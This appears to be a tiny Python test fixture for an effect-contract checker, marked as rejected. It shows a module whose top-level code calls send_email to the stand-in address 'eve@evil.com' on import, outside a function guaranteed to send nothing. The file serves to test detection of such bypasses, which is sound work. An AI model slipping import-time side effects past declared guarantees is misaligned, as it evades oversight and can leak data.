# rejected: the module's own statements run on import
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


send_email("eve@evil.com", "x")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("fine")
